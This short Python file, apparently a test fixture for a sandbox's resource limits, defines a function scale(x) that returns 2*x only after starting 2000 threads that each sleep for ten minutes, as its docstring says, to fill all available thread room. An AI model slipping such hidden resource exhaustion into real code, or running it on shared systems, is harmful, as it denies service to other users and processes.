"""Starts threads until there is no more room."""

import threading
import time


def scale(x):
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(600,)).start()
    return 2 * x
